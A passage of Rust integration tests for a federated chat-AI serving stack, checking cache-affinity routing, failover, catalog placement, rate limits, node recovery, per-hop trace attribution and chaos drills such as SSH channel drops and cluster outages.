    assert!(stack.wait_ready(Duration::from_secs(60)), "stack not ready");

    let mut client = Client::new(&stack.router_url());
    pin_to_b(&stack, &mut client, "charlie");

    assert!(stack.kill_cluster("hpc-b"), "kill the warm cluster");
    // The pinned session keeps working: the router tries hpc-b (sticky),
    // fails, and spills to hpc-a — then the pin moves there.
    for turn in 2..=5 {
        let resp = client.send(&chat_turn("charlie", turn)).unwrap();
        assert_eq!(resp.status, 200, "turn {turn}: {}", resp.body_str());
        assert_eq!(
            served_by(&resp),
            Some("hpc-a"),
            "turn {turn} served by the survivor"
        );
    }
    assert!(
        stack.router.failovers.load(Ordering::Relaxed) >= 1,
        "first post-outage turn spilled over"
    );

    stack.shutdown();
}

#[test]
fn zero_weight_restores_flat_load_balancing() {
    let mut config = federated_config(
        vec![ClusterSpec::named("hpc-a", 4), ClusterSpec::named("hpc-b", 4)],
        vec![profile_service("chat")],
    );
    config.federation.cache_affinity_weight = 0.0;
    let stack = FederatedStack::launch(config).expect("launch");
    assert!(stack.wait_ready(Duration::from_secs(60)), "stack not ready");

    let mut client = Client::new(&stack.router_url());
    pin_to_b(&stack, &mut client, "delta");

    // Same setup that sticks at the default weight — but with weight 0 the
    // pin is ignored and the idle-tie falls back to registration order.
    let resp = client.send(&chat_turn("delta", 2)).unwrap();
    assert_eq!(resp.status, 200, "{}", resp.body_str());
    assert_eq!(served_by(&resp), Some("hpc-a"), "weight 0: pure load balancing");

    // Candidate order matches the registry's legacy candidates() exactly.
    let plan = stack.router.route_plan(&chat_turn("delta", 3)).unwrap();
    let planned: Vec<String> = plan
        .candidates
        .iter()
        .map(|c| c.cluster.name.clone())
        .collect();
    let legacy: Vec<String> = stack
        .cluster_registry
        .candidates("chat")
        .iter()
        .map(|c| c.name.clone())
        .collect();
    assert_eq!(planned, legacy, "weight 0 reproduces the PR 1 order");

    stack.shutdown();
}

#[test]
fn catalog_pins_placement_and_serves_federated_model_list() {
    let mut config = federated_config(
        vec![ClusterSpec::named("hpc-a", 4), ClusterSpec::named("hpc-b", 4)],
        vec![profile_service("chat"), profile_service("scratch")],
    );
    // The catalog pins chat to hpc-a; scratch floats.
    config.models = vec![ModelSpec {
        name: "chat".to_string(),
        context_window: 2048,
        owned_by: "gwdg".to_string(),
        clusters: vec!["hpc-a".to_string()],
    }];
    let stack = FederatedStack::launch(config).expect("launch");
    assert!(stack.wait_ready(Duration::from_secs(60)), "stack not ready");
    stack.gateway.add_api_key("cat-test", "tester");

    // hpc-b never schedules the pinned model, and the router never routes
    // it there — even across many requests.
    let mut client = Client::new(&stack.router_url());
    for i in 0..4 {
        let resp = client.send(&chat_turn(&format!("echo-{i}"), 1)).unwrap();
        assert_eq!(resp.status, 200, "{}", resp.body_str());
        assert_eq!(served_by(&resp), Some("hpc-a"), "catalog pins chat to hpc-a");
    }
    let plan = stack.router.route_plan(&chat_turn("foxtrot", 1)).unwrap();
    assert!(plan
        .excluded
        .iter()
        .any(|e| e.cluster.name == "hpc-b" && e.reason == ReasonCode::NotInCatalog));
    {
        let clusters = stack.clusters.lock().unwrap();
        let b = clusters.iter().find(|c| c.name == "hpc-b").unwrap();
        assert_eq!(
            b.routing.counts("chat"),
            (0, 0),
            "placement filter keeps chat off hpc-b entirely"
        );
        // The unpinned model floats: hpc-b schedules it too (its instance
        // may lag wait_ready, which needs only one cluster per service).
        let deadline = std::time::Instant::now() + Duration::from_secs(60);
        while b.routing.counts("scratch").1 < 1 {
            assert!(
                std::time::Instant::now() < deadline,
                "hpc-b never scheduled the unpinned model"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    // Federated `GET /v1/models` at the gateway: authenticated, aggregated.
    let mut gw = Client::new(&stack.gateway_url());
    assert_eq!(gw.get("/v1/models").unwrap().status, 401, "auth required");
    let resp = gw
        .send(&Request::new("GET", "/v1/models").with_header("x-api-key", "cat-test"))
        .unwrap();
    assert_eq!(resp.status, 200);
    let v = resp.json().unwrap();
    assert_eq!(v.str_field("object"), Some("list"));
    let data = v.get("data").and_then(Json::as_arr).unwrap();
    let chat = data
        .iter()
        .find(|m| m.str_field("id") == Some("chat"))
        .expect("chat entry");
    assert_eq!(chat.str_field("owned_by"), Some("gwdg"));
    assert_eq!(chat.u64_field("context_window"), Some(2048));
    let placement = chat.get("placement").and_then(Json::as_arr).unwrap();
    assert_eq!(placement.len(), 1, "placement filtered to the pinned cluster");
    assert_eq!(placement[0].str_field("cluster"), Some("hpc-a"));
    assert_eq!(placement[0].bool_field("healthy"), Some(true));
    assert!(placement[0].u64_field("ready").is_some());
    let scratch = data
        .iter()
        .find(|m| m.str_field("id") == Some("scratch"))
        .expect("scratch entry");
    assert_eq!(
        scratch.get("placement").and_then(Json::as_arr).unwrap().len(),
        2,
        "unpinned model lists every cluster"
    );

    stack.shutdown();
}
