//! Full-stack integration tests: the complete Figure-1 architecture with
//! real sockets between every component.

use std::time::Duration;

use chat_ai::config::StackConfig;
use chat_ai::coordinator::Stack;
use chat_ai::util::http::{Client, Request, SseParser};
use chat_ai::util::json::Json;

fn demo_stack() -> Stack {
    let mut config = StackConfig::default(); // no injected latency: fast tests
    config.keepalive = Duration::from_millis(100);
    let stack = Stack::launch(config).expect("launch");
    assert!(stack.wait_ready(Duration::from_secs(180)), "stack not ready");
    stack
}

fn chat_body(text: &str, stream: bool) -> Json {
    Json::obj()
        .set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", text)],
        )
        .set("max_tokens", 8u64)
        .set("stream", stream)
}

#[test]
fn full_chain_web_user_chat() {
    let stack = demo_stack();
    let svc = stack.config.services[0].name.clone();
    stack.sso.register_user("ada", "ada@uni.de");
    let mut browser = Client::new(&stack.auth_url());
    let token = browser
        .post_json("/sso/login", &Json::obj().set("username", "ada"))
        .unwrap()
        .json()
        .unwrap()
        .str_field("session")
        .unwrap()
        .to_string();
    let req = Request::new("POST", &format!("/{svc}/v1/chat/completions"))
        .with_header("cookie", &format!("session={token}"))
        .with_body(chat_body("hello", false).to_string().into_bytes());
    let resp = browser.send(&req).unwrap();
    assert_eq!(resp.status, 200, "{}", resp.body_str());
    let v = resp.json().unwrap();
    assert!(v.get("choices").is_some());
    // demand was measured on the HPC side
    assert_eq!(stack.demand.total(&svc), 1);
    stack.shutdown();
}

#[test]
fn full_chain_api_user_streaming() {
    let stack = demo_stack();
    let svc = stack.config.services[0].name.clone();
    stack.gateway.add_api_key("sk-int", "integration");
    let mut client = Client::new(&stack.gateway_url());
    let req = Request::new("POST", &format!("/{svc}/v1/chat/completions"))
        .with_header("authorization", "Bearer sk-int")
        .with_body(chat_body("stream please", true).to_string().into_bytes());
    let mut sse = SseParser::new();
    let mut events = Vec::new();
    let resp = client
        .send_streaming(&req, |chunk| events.extend(sse.push(chunk)))
        .unwrap();
    assert_eq!(resp.status, 200);
    assert!(!events.is_empty(), "streamed SSE events expected");
    assert_eq!(events.last().map(String::as_str), Some("[DONE]"));
    stack.shutdown();
}

#[test]
fn webapp_roundtrip_through_gateway() {
    let stack = demo_stack();
    let svc = stack.config.services[0].name.clone();
    stack.sso.register_user("bob", "bob@uni.de");
    let token = stack.sso.login("bob").unwrap();
    // Browser loads the SPA via auth proxy → gateway → webapp route.
    let mut browser = Client::new(&stack.auth_url());
    let page = browser
        .send(&Request::new("GET", "/chat").with_header("cookie", &format!("session={token}")))
        .unwrap();
    assert_eq!(page.status, 200);
    assert!(page.body_str().contains("Chat AI"));
    // SPA calls /api/chat on the webapp which forwards to the model route.
    let mut spa = Client::new(&stack.webapp_server.url());
    let resp = spa
        .send(
            &Request::new("POST", "/api/chat").with_body(
                Json::obj()
                    .set("model", svc.as_str())
                    .set(
                        "messages",
                        vec![Json::obj().set("role", "user").set("content", "hi")],
                    )
                    .to_string()
                    .into_bytes(),
            ),
        )
        .unwrap();
    // The gateway requires auth; the webapp forwards anonymously → 401.
    // With identity attached it succeeds.
    assert_eq!(resp.status, 401);
    stack.shutdown();
}

#[test]
fn gpt4_route_is_rate_limited() {
    let mut config = StackConfig::default();
    config.external_models = true;
    config.keepalive = Duration::from_millis(100);
    let stack = Stack::launch(config).expect("launch");
    stack.gateway.add_api_key("sk-paid", "vip");
    // Fire a burst in parallel: the 2/s+burst-5 budget cannot cover 12
    // simultaneous requests (serially the bucket would refill during the
    // stubbed 350 ms upstream latency).
    let url = stack.gateway_url();
    let handles: Vec<_> = (0..12)
        .map(|_| {
            let url = url.clone();
            std::thread::spawn(move || {
                let mut client = Client::new(&url);
                client
                    .send(
                        &Request::new("POST", "/gpt-4/v1/chat/completions")
                            .with_header("x-api-key", "sk-paid")
                            .with_body(b"{\"messages\":[]}".to_vec()),
                    )
                    .unwrap()
                    .status
            })
        })
        .collect();
    let codes: Vec<u16> = handles.into_iter().map(|h| h.join().unwrap()).collect();
    assert!(codes.contains(&200), "{codes:?}");
    assert!(codes.contains(&429), "strict limits on paid models: {codes:?}");
    stack.shutdown();
}

#[test]
fn node_failure_recovers_service() {
    let mut config = StackConfig::default();
    config.keepalive = Duration::from_millis(50);
    config.gpu_nodes = 2;
    let stack = Stack::launch(config).expect("launch");
    assert!(stack.wait_ready(Duration::from_secs(180)));
    let svc = stack.config.services[0].name.clone();

    // Kill the node hosting the instance.
    let node = stack.routing.entries_for(&svc)[0].node.clone();
    stack.ctld.lock().unwrap().fail_node(&node);

    // The scheduler (driven by keepalive pings) resubmits; within a few
    // seconds a replacement is ready on the surviving node.
    let deadline = std::time::Instant::now() + Duration::from_secs(120);
    loop {
        let entries = stack.routing.entries_for(&svc);
        if entries.iter().any(|e| e.ready && e.node != node) {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "no recovery");
        std::thread::sleep(Duration::from_millis(100));
    }
    // And it serves traffic.
    stack.gateway.add_api_key("sk-r", "recovery");
    let mut client = Client::new(&stack.gateway_url());
    let req = Request::new("POST", &format!("/{svc}/v1/chat/completions"))
        .with_header("x-api-key", "sk-r")
        .with_body(chat_body("still alive?", false).to_string().into_bytes());
    let resp = client.send(&req).unwrap();
    assert_eq!(resp.status, 200, "{}", resp.body_str());
    assert!(
        stack
            .scheduler
            .stats
            .recovered_failures
            .load(std::sync::atomic::Ordering::Relaxed)
            >= 1
    );
    stack.shutdown();
}

#[test]
fn unknown_model_is_404_through_the_chain() {
    let stack = demo_stack();
    stack.gateway.add_api_key("k", "u");
    let mut client = Client::new(&stack.gateway_url());
    // Route exists at the gateway level only for configured services.
    let resp = client
        .send(
            &Request::new("POST", "/made-up-model/v1/chat/completions")
                .with_header("x-api-key", "k")
                .with_body(chat_body("x", false).to_string().into_bytes()),
        )
        .unwrap();
    assert_eq!(resp.status, 404);
    stack.shutdown();
}
