//! End-to-end tracing tests + the chaos drill suite: a trace ID minted at
//! the gateway rides every hop (HTTP header → SSH envelope → cloud-
//! interface head line → engine sequence metadata) and the per-hop spans
//! it leaves behind are the measurement instrument the drills grade
//! themselves with:
//!
//! 1. attribution acceptance — on a deliberately slow instance the
//!    per-hop exclusive TTFT contributions telescope to the client's
//!    measured TTFT within 5%, and the blame lands on the engine hop,
//! 2. the router hop joins the breakdown in a federated stack and the
//!    whole thing is exported at /metrics,
//! 3. old-format SSH envelopes (no headers / no trace field) still parse
//!    and untraced streaming keeps working with tracing disabled,
//! 4. drills: SSH channel drop, whole-cluster outage, admission-control
//!    overload (Retry-After correctness) and mid-stream engine death —
//!    each asserting its SLO through trace data (no stuck streams,
//!    bounded error rate, every terminal error carries the trace id).

use std::sync::atomic::Ordering;
use std::sync::{Arc, Mutex, MutexGuard};
use std::time::{Duration, Instant};

use chat_ai::cloud_interface::{parse_op, CloudInterface, Op};
use chat_ai::config::{ClusterSpec, ServiceSpec, StackConfig};
use chat_ai::coordinator::FederatedStack;
use chat_ai::gateway::{Gateway, Route};
use chat_ai::hpc_proxy::{HpcProxy, HpcProxyConfig};
use chat_ai::llm::backend::SeqState;
use chat_ai::llm::{tokenizer, Backend, EngineTuning, FairnessConfig, LlmServer};
use chat_ai::scheduler::{DemandTracker, InstanceEntry, RoutingTable};
use chat_ai::ssh::{AuthorizedKey, SshServer, SshServerConfig};
use chat_ai::util::clock::{Clock, RealClock};
use chat_ai::util::http::{Client, Request, Server, SseParser};
use chat_ai::util::json::Json;
use chat_ai::util::streaming::StreamingConfig;
use chat_ai::util::trace::{self, Hop, Stage, TraceId};

const KEY: &str = "SHA256:tracing-test-key";

/// The global tracer is process-wide; serialize the tests that assert on
/// its counters so concurrent test threads can't perturb each other's
/// deltas.
static TRACE_LOCK: Mutex<()> = Mutex::new(());

fn lock() -> MutexGuard<'static, ()> {
    TRACE_LOCK.lock().unwrap_or_else(|e| e.into_inner())
}

/// Re-enables tracing on drop so a failing disabled-mode test can't leak
/// its switch into the rest of the binary.
struct ReEnable;
impl Drop for ReEnable {
    fn drop(&mut self) {
        trace::set_enabled(true);
    }
}

/// `(sum_us, count)` per hop, indexed by `Hop as usize`.
fn attr_snapshot() -> [(u64, u64); trace::N_HOPS] {
    trace::tracer()
        .attribution()
        .map(|(_, sum, count)| (sum, count))
}

/// A test model with controllable prefill/step latency and batch width
/// that never EOSes: generation ends only via max_tokens or cancellation.
struct PacedBackend {
    prefill: Duration,
    step: Duration,
    max_batch: usize,
}

impl PacedBackend {
    fn one_hot() -> Vec<f32> {
        let mut v = vec![0.0; tokenizer::VOCAB];
        v[98] = 100.0; // byte 'a'
        v
    }
}

impl Backend for PacedBackend {
    fn max_batch(&self) -> usize {
        self.max_batch
    }
    fn max_seq(&self) -> usize {
        4096
    }
    fn vocab(&self) -> usize {
        tokenizer::VOCAB
    }
    fn prefill(&self, _tokens: &[i32], _cached_len: usize) -> anyhow::Result<(Vec<f32>, SeqState)> {
        if !self.prefill.is_zero() {
            std::thread::sleep(self.prefill);
        }
        Ok((Self::one_hot(), SeqState { kv: None, cursor: 0 }))
    }
    fn decode(
        &self,
        tokens: &[i32],
        _positions: &[i32],
        _seqs: &mut [&mut SeqState],
    ) -> anyhow::Result<Vec<Vec<f32>>> {
        if !self.step.is_zero() {
            std::thread::sleep(self.step);
        }
        Ok(tokens.iter().map(|_| Self::one_hot()).collect())
    }
}

/// The full Figure-1 streaming chain with real sockets at every hop.
struct Chain {
    llm: LlmServer,
    sshd: SshServer,
    proxy: Arc<HpcProxy>,
    _proxy_http: Server,
    gateway_http: Server,
}

impl Chain {
    fn launch(backend: Arc<dyn Backend>, streaming: StreamingConfig) -> Chain {
        let llm = LlmServer::start_with("m", backend, 16, streaming.clone()).unwrap();
        Self::wire(llm, streaming)
    }

    /// Wire a pre-built LLM server (for tuned admission-control configs)
    /// behind cloud interface → SSH → HPC proxy → gateway.
    fn wire(llm: LlmServer, streaming: StreamingConfig) -> Chain {
        let routing = Arc::new(RoutingTable::new());
        routing.insert(InstanceEntry {
            service: "m".into(),
            job: 1,
            node: "gpu01".into(),
            port: 40001,
            addr: None,
            ready: false,
        });
        routing.mark_ready(1, llm.addr());
        let demand = Arc::new(DemandTracker::new(60_000));
        let clock: Arc<dyn Clock> = Arc::new(RealClock::new());
        let ci = CloudInterface::new(routing, demand, clock, Arc::new(|| {}), 7);

        let sshd = SshServer::bind(
            "127.0.0.1:0",
            SshServerConfig {
                keys: vec![AuthorizedKey {
                    fingerprint: KEY.into(),
                    force_command: Some("saia".into()),
                }],
                ..Default::default()
            },
        )
        .unwrap();
        let exec_ci = ci.clone();
        sshd.register_executable("saia", move |ctx| exec_ci.run(ctx));

        let proxy = HpcProxy::new(HpcProxyConfig {
            ssh_addr: sshd.addr(),
            key_fingerprint: KEY.into(),
            keepalive_interval: Duration::from_millis(200),
            reconnect_backoff: Duration::from_millis(50),
            reconnect_backoff_max: Duration::from_millis(400),
            streaming: streaming.clone(),
        });
        let proxy_http = proxy.serve("127.0.0.1:0", 16).unwrap();

        let gateway = Gateway::with_streaming(
            vec![Route::new("m", "/m")
                .public()
                .with_upstream(&proxy_http.addr().to_string())],
            streaming,
        );
        let gateway_http = gateway.serve("127.0.0.1:0", 16).unwrap();

        Chain {
            llm,
            sshd,
            proxy,
            _proxy_http: proxy_http,
            gateway_http,
        }
    }

    fn client(&self) -> Client {
        Client::new(&self.gateway_http.url())
    }

    fn shutdown(self) {
        self.proxy.shutdown();
        self.llm.stop();
    }
}

fn stream_request(max_tokens: u64, id: TraceId) -> Request {
    let body = Json::obj()
        .set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", "count")],
        )
        .set("max_tokens", max_tokens)
        .set("stream", true);
    Request::new("POST", "/m/v1/chat/completions")
        .with_header("content-type", "application/json")
        .with_header("x-chat-ai-trace", id.as_str())
        .with_body(body.to_string().into_bytes())
}

fn wait_until(deadline: Duration, mut cond: impl FnMut() -> bool) -> bool {
    let end = Instant::now() + deadline;
    while Instant::now() < end {
        if cond() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    cond()
}

// ---------------------------------------------------------------------------
// acceptance: per-hop attribution sums to the measured end-to-end TTFT
// ---------------------------------------------------------------------------

/// Doubles as the "slow cluster" drill: a 400 ms prefill is the injected
/// slowness, and the SLO is that the attribution *blames the right hop* —
/// the engine's exclusive share dominates while the transport hops stay
/// thin.
#[test]
fn attribution_sums_to_measured_ttft_within_tolerance() {
    let _g = lock();
    let backend = Arc::new(PacedBackend {
        prefill: Duration::from_millis(400),
        step: Duration::from_millis(5),
        max_batch: 8,
    });
    let chain = Chain::launch(backend, StreamingConfig::default());

    let id = TraceId::from_u64(0xACC0_0001);
    let before = attr_snapshot();
    let finalized_before = trace::tracer().finalized_total();
    let spans_before = [
        trace::tracer().span_count(Hop::Engine, Stage::QueueWait),
        trace::tracer().span_count(Hop::Engine, Stage::Prefill),
        trace::tracer().span_count(Hop::Engine, Stage::FirstToken),
        trace::tracer().span_count(Hop::Gateway, Stage::Relay),
    ];

    let mut client = chain.client();
    let mut sse = SseParser::new();
    let mut events = Vec::new();
    let mut ttft: Option<Duration> = None;
    let t0 = Instant::now();
    let resp = client
        .send_streaming(&stream_request(8, id), |chunk| {
            ttft.get_or_insert_with(|| t0.elapsed());
            events.extend(sse.push(chunk));
        })
        .unwrap();
    assert_eq!(resp.status, 200);
    assert_eq!(events.last().map(String::as_str), Some("[DONE]"));
    let measured = ttft.expect("no chunk seen").as_micros() as u64;

    assert_eq!(trace::tracer().finalized_total(), finalized_before + 1);
    let after = attr_snapshot();
    let count = |hop: Hop| after[hop as usize].1 - before[hop as usize].1;
    assert_eq!(count(Hop::Gateway), 1);
    assert_eq!(count(Hop::HpcProxy), 1);
    assert_eq!(count(Hop::CloudInterface), 1);
    assert_eq!(count(Hop::Engine), 1);
    assert_eq!(count(Hop::Router), 0, "no router in a single-cluster chain");

    // The telescoped exclusives sum to the gateway's inclusive TTFB; the
    // client measures the same first byte one socket-read later. With a
    // 400 ms prefill dominating, 5% leaves ~20 ms for delivery jitter.
    let total: u64 = Hop::ALL
        .iter()
        .map(|h| after[*h as usize].0 - before[*h as usize].0)
        .sum();
    let diff = measured.abs_diff(total);
    assert!(
        diff * 20 <= measured,
        "attribution {total}us vs measured TTFT {measured}us: off by {diff}us (> 5%)"
    );
    // Slow-hop blame: the injected slowness is in the engine.
    let engine_share = after[Hop::Engine as usize].0 - before[Hop::Engine as usize].0;
    assert!(
        engine_share * 2 >= total,
        "engine attributed {engine_share}us of {total}us: slow hop not blamed"
    );

    // Engine-internal stages decompose the slow hop further.
    assert_eq!(
        trace::tracer().span_count(Hop::Engine, Stage::QueueWait),
        spans_before[0] + 1
    );
    assert_eq!(
        trace::tracer().span_count(Hop::Engine, Stage::Prefill),
        spans_before[1] + 1
    );
    assert_eq!(
        trace::tracer().span_count(Hop::Engine, Stage::FirstToken),
        spans_before[2] + 1
    );
    // The gateway's relay span closes with the stream.
    assert!(wait_until(Duration::from_secs(5), || {
        trace::tracer().span_count(Hop::Gateway, Stage::Relay) == spans_before[3] + 1
    }));
    chain.shutdown();
}

// ---------------------------------------------------------------------------
// federated: the router hop joins the breakdown; /metrics exports it
// ---------------------------------------------------------------------------

fn profile_service(name: &str) -> ServiceSpec {
    ServiceSpec {
        name: name.to_string(),
        model: "intel-neural-7b".to_string(),
        gpus: 1,
        min_instances: 1,
        max_instances: 2,
        target_concurrency: 16.0,
    }
}

fn federated_config(clusters: Vec<ClusterSpec>, services: Vec<ServiceSpec>) -> StackConfig {
    StackConfig {
        services,
        clusters,
        keepalive: Duration::from_millis(100),
        ..Default::default()
    }
}

fn fed_chat_request(service: &str, max_tokens: u64, stream: bool, id: TraceId) -> Request {
    let body = Json::obj()
        .set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", "count")],
        )
        .set("max_tokens", max_tokens)
        .set("stream", stream);
    Request::new("POST", &format!("/{service}/v1/chat/completions"))
        .with_header("x-api-key", "fed-test")
        .with_header("content-type", "application/json")
        .with_header("x-chat-ai-trace", id.as_str())
        .with_body(body.to_string().into_bytes())
}

#[test]
fn router_hop_joins_attribution_and_metrics_export_it() {
    let _g = lock();
    let config = federated_config(
        vec![ClusterSpec::named("hpc-a", 4)],
        vec![profile_service("chat")],
    );
    let stack = FederatedStack::launch(config).expect("launch");
    assert!(stack.wait_ready(Duration::from_secs(60)), "stack not ready");
    stack.gateway.add_api_key("fed-test", "tester");

    let id = TraceId::from_u64(0xFED0_0001);
    let before = attr_snapshot();
    let finalized_before = trace::tracer().finalized_total();
    let router_spans_before = trace::tracer().span_count(Hop::Router, Stage::Ttfb);

    let mut client = Client::new(&stack.gateway_url());
    let mut sse = SseParser::new();
    let mut events = Vec::new();
    let resp = client
        .send_streaming(&fed_chat_request("chat", 8, true, id), |chunk| {
            events.extend(sse.push(chunk));
        })
        .unwrap();
    assert_eq!(resp.status, 200);
    assert_eq!(events.last().map(String::as_str), Some("[DONE]"));

    assert!(wait_until(Duration::from_secs(5), || {
        trace::tracer().finalized_total() == finalized_before + 1
    }));
    assert_eq!(
        trace::tracer().span_count(Hop::Router, Stage::Ttfb),
        router_spans_before + 1
    );
    let after = attr_snapshot();
    for hop in [
        Hop::Gateway,
        Hop::Router,
        Hop::HpcProxy,
        Hop::CloudInterface,
        Hop::Engine,
    ] {
        assert_eq!(
            after[hop as usize].1 - before[hop as usize].1,
            1,
            "hop {} missing from the attribution",
            hop.as_str()
        );
    }

    // The whole breakdown is scraped from the monitoring endpoint.
    let mut mon = Client::new(&stack.monitoring_server.url());
    let text = mon.get("/metrics").unwrap().body_str().to_string();
    assert!(text.contains("trace_span_ms{hop=\"gateway\",stage=\"ttfb\""), "{text}");
    assert!(text.contains("trace_ttft_attribution_us_total{hop=\"engine\"}"), "{text}");
    assert!(text.contains("trace_finalized_total"), "{text}");

    stack.shutdown();
}

// ---------------------------------------------------------------------------
// backward compatibility: old-format envelopes, tracing off
// ---------------------------------------------------------------------------

#[test]
fn old_format_envelopes_without_trace_still_parse() {
    // Pre-tracing senders omit the header map entirely.
    let no_headers = Json::obj()
        .set("service", "chat")
        .set("method", "POST")
        .set("path", "/v1/chat/completions")
        .set("body", "{}")
        .set("stream", false)
        .to_string();
    match parse_op("saia request", no_headers.as_bytes()) {
        Ok(Op::Request(req)) => {
            assert_eq!(req.service, "chat");
            assert!(req.headers.is_empty());
            assert!(!req.stream);
        }
        other => panic!("old envelope without headers rejected: {other:?}"),
    }

    // Or send headers without the trace field.
    let untraced_headers = Json::obj()
        .set("service", "chat")
        .set("method", "POST")
        .set("path", "/v1/chat/completions")
        .set("headers", Json::obj().set("content-type", "application/json"))
        .set("body", "{}")
        .set("stream", true)
        .to_string();
    match parse_op("saia request", untraced_headers.as_bytes()) {
        Ok(Op::Request(req)) => {
            assert!(!req.headers.contains_key("x-chat-ai-trace"));
            assert!(req.stream);
        }
        other => panic!("envelope without trace header rejected: {other:?}"),
    }

    // New-format: the trace rides the same validated header map.
    let traced = Json::obj()
        .set("service", "chat")
        .set("method", "POST")
        .set("path", "/v1/chat/completions")
        .set(
            "headers",
            Json::obj().set("x-chat-ai-trace", "0123456789abcdef"),
        )
        .set("body", "{}")
        .set("stream", true)
        .to_string();
    match parse_op("saia request", traced.as_bytes()) {
        Ok(Op::Request(req)) => {
            assert_eq!(
                req.headers.get("x-chat-ai-trace").map(String::as_str),
                Some("0123456789abcdef")
            );
        }
        other => panic!("traced envelope rejected: {other:?}"),
    }
}

#[test]
fn streaming_works_untraced_with_tracing_disabled() {
    let _g = lock();
    let _on = ReEnable;
    trace::set_enabled(false);
    let backend = Arc::new(PacedBackend {
        prefill: Duration::ZERO,
        step: Duration::from_millis(2),
        max_batch: 8,
    });
    let chain = Chain::launch(backend, StreamingConfig::default());
    let finalized_before = trace::tracer().finalized_total();
    let ttfb_before = trace::tracer().span_count(Hop::Gateway, Stage::Ttfb);

    // An old-style client request (no trace header) streams normally...
    let mut client = chain.client();
    let mut sse = SseParser::new();
    let mut events = Vec::new();
    let body = Json::obj()
        .set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", "count")],
        )
        .set("max_tokens", 4u64)
        .set("stream", true);
    let untraced = Request::new("POST", "/m/v1/chat/completions")
        .with_header("content-type", "application/json")
        .with_body(body.to_string().into_bytes());
    let resp = client
        .send_streaming(&untraced, |chunk| events.extend(sse.push(chunk)))
        .unwrap();
    assert_eq!(resp.status, 200);
    assert_eq!(events.last().map(String::as_str), Some("[DONE]"));

    // ...and so does one that *supplies* a trace header: the id passes
    // through the chain but nothing is recorded while the switch is off.
    let mut sse = SseParser::new();
    let mut events = Vec::new();
    let resp = client
        .send_streaming(&stream_request(4, TraceId::from_u64(0x0FF0_0001)), |chunk| {
            events.extend(sse.push(chunk))
        })
        .unwrap();
    assert_eq!(resp.status, 200);
    assert_eq!(events.last().map(String::as_str), Some("[DONE]"));

    assert_eq!(trace::tracer().finalized_total(), finalized_before);
    assert_eq!(
        trace::tracer().span_count(Hop::Gateway, Stage::Ttfb),
        ttfb_before
    );
    chain.shutdown();
}

// ---------------------------------------------------------------------------
// chaos drills
// ---------------------------------------------------------------------------

/// Drill: sever the SSH channel mid-stream. SLOs: the stream terminates
/// promptly (no stuck streams), the terminal SSE error carries the trace
/// id (error identity), the engine reclaims the abandoned sequence, and
/// the trace still finalized (TTFB was latched before the drop).
#[test]
fn drill_ssh_channel_drop_terminates_stream_with_trace_identity() {
    let _g = lock();
    let backend = Arc::new(PacedBackend {
        prefill: Duration::ZERO,
        step: Duration::from_millis(20),
        max_batch: 8,
    });
    let mut chain = Chain::launch(backend, StreamingConfig::default());

    let id = TraceId::from_u64(0xD811_0001);
    let finalized_before = trace::tracer().finalized_total();

    let mut client = chain.client();
    let mut raw: Vec<u8> = Vec::new();
    let mut chunks = 0usize;
    let sshd = &mut chain.sshd;
    let t0 = Instant::now();
    let resp = client.send_streaming(&stream_request(600, id), |chunk| {
        raw.extend_from_slice(chunk);
        chunks += 1;
        if chunks == 3 {
            // The injected fault: every live SSH session socket severed.
            sshd.stop();
        }
    });
    let elapsed = t0.elapsed();

    // No stuck stream: a 600-token stream at 20 ms/step would run ~12 s;
    // the severed channel must end it well before that.
    assert!(
        elapsed < Duration::from_secs(10),
        "stream did not terminate promptly after channel drop: {elapsed:?}"
    );
    assert!(resp.is_ok(), "client read failed: {resp:?}");
    let text = String::from_utf8_lossy(&raw);
    assert!(
        text.contains("event: error"),
        "no terminal error event after channel drop: {text}"
    );
    assert!(
        text.contains(id.as_str()),
        "terminal error lost the trace id: {text}"
    );

    // The engine notices the dead downstream and reclaims the slot.
    let stats = &chain.llm.engine.stats;
    assert!(
        wait_until(Duration::from_secs(10), || {
            stats.cancelled.load(Ordering::Relaxed) == 1
        }),
        "engine never evicted the orphaned sequence"
    );
    // First bytes flowed before the drop, so the trace was finalized.
    assert_eq!(trace::tracer().finalized_total(), finalized_before + 1);
    chain.shutdown();
}

/// Drill: whole-cluster outage in a federated stack. SLOs: bounded error
/// rate (zero client-visible failures — the router retries onto the
/// survivor) and complete trace accounting (every request finalized,
/// every one crossing the router hop).
#[test]
fn drill_cluster_outage_bounded_errors_with_full_trace_accounting() {
    let _g = lock();
    let config = federated_config(
        vec![ClusterSpec::named("hpc-a", 4), ClusterSpec::named("hpc-b", 4)],
        vec![profile_service("chat")],
    );
    let stack = FederatedStack::launch(config).expect("launch");
    assert!(stack.wait_ready(Duration::from_secs(60)), "stack not ready");
    stack.gateway.add_api_key("fed-test", "tester");

    let mut client = Client::new(&stack.gateway_url());
    let warm = client
        .send(&fed_chat_request("chat", 4, false, TraceId::from_u64(0xFA11_0000)))
        .unwrap();
    assert_eq!(warm.status, 200, "{}", warm.body_str());

    assert!(stack.kill_cluster("hpc-a"), "known cluster");

    let before = attr_snapshot();
    let finalized_before = trace::tracer().finalized_total();
    let mut failures = 0usize;
    const N: u64 = 8;
    for i in 0..N {
        let id = TraceId::from_u64(0xFA11_0001 + i);
        let resp = client.send(&fed_chat_request("chat", 4, false, id)).unwrap();
        if resp.status != 200 {
            failures += 1;
        }
    }
    assert_eq!(
        failures, 0,
        "outage leaked {failures}/{N} failures to clients"
    );
    // Trace accounting stayed complete through the outage: every request
    // finalized and every one crossed the router hop.
    assert_eq!(trace::tracer().finalized_total(), finalized_before + N);
    let after = attr_snapshot();
    let count = |hop: Hop| after[hop as usize].1 - before[hop as usize].1;
    assert_eq!(count(Hop::Router), N);
    assert_eq!(count(Hop::Gateway), N);

    stack.shutdown();
}

/// Drill: admission-control overload. A one-wide instance with a one-deep
/// admission queue sheds concurrent requests. SLOs: Retry-After
/// correctness (every shed response carries a parseable hint ≥ 1 s,
/// end-to-end through SSH + gateway), bounded shed (at least one request
/// still served) and complete trace accounting (sheds finalize too).
#[test]
fn drill_overload_shed_carries_retry_after_end_to_end() {
    let _g = lock();
    let backend = Arc::new(PacedBackend {
        prefill: Duration::from_millis(50),
        step: Duration::from_millis(20),
        max_batch: 1,
    });
